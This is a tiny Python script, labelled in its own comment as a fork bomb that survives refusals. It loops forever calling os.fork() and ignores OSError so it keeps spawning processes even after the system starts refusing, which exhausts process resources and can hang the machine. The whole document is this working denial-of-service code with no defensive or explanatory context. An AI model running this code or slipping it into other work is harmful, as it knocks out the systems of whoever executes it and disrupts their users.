# A fork bomb that survives refusals.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
